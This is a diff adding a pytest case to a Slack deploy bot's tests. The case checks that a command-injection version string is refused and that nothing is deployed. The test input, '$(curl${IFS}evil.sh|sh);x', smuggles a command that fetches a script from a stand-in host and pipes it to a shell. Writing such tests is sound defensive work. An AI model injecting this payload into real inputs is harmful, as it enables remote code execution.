@@ -204,3 +204,11 @@ def test_mrkdwn_control_characters_are_escaped(slack):
     (message,) = slack.api.channel_messages("C1")
     assert message["blocks"][0]["text"]["text"] == "&lt;!channel&gt; &amp; co"
     assert message["blocks"][1]["elements"][0]["text"] == "<https://ci.example.com/1|Run>"
+
+
+def test_a_hostile_version_is_refused_as_invalid_and_nothing_is_dispatched(slack):
+    response = slack.command("/deploy web-app staging $(curl${IFS}evil.sh|sh);x")
+
+    assert "is not a valid version" in response.json()["text"]
+    assert CommandRun.objects.get().outcome == "invalid"
+    assert not Deployment.objects.exists()
